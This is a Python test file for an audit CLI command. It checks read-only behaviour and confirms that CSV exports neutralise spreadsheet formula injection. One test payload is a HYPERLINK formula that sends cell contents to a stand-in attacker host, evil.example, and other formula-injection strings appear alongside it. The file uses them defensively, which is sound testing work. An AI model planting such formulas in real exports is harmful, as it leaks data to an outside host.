"""``dm-upgrade audit``: read-only (a missing or empty database is an error, never created or migrated), and
a CSV export a spreadsheet opens without running anything that came from a person."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from bot import cli
from workflow.store import audit
from workflow.store.database import make_engine, migrate, session

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _database(path: Path, *reasons: str) -> str:
    url = f"sqlite:///{path}"
    engine = make_engine(url)
    migrate(engine)
    with session(engine) as db:
        for reason in reasons:
            audit.record(db, actor="U1", action="plan.cancel", plan_id=None, reason=reason, detail={})
    engine.dispose()
    return url


def test_an_empty_database_file_is_an_error_and_stays_empty(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    empty = tmp_path / "dm-upgrade.db"
    empty.touch()
    code = cli.main(["audit", "--database-url", f"sqlite:///{empty}"])
    captured = capsys.readouterr()
    assert code != 0
    assert captured.out == ""
    assert "no dm-upgrade database" in captured.err and str(empty) in captured.err
    assert empty.stat().st_size == 0  # not migrated into a database it then reports as empty


def test_a_missing_database_is_an_error_and_is_not_created(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("DATABASE_URL", raising=False)
    code = cli.main(["audit"])
    assert code != 0
    assert "no database at" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("cell", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_neutralises_formulas(tmp_path: Path, capsys: pytest.CaptureFixture[str], cell: str) -> None:
    url = _database(tmp_path / "a.db", cell, "an ordinary reason")
    assert cli.main(["audit", "--format", "csv", "--database-url", url]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [row["reason"] for row in rows] == ["'" + cell, "an ordinary reason"]
    assert all(not row[key].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for key in row)


def test_jsonl_keeps_the_text_as_it_was(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = _database(tmp_path / "a.db", EVIL)
    assert cli.main(["audit", "--database-url", url]) == 0
    [line] = capsys.readouterr().out.splitlines()
    assert json.loads(line)["reason"] == EVIL
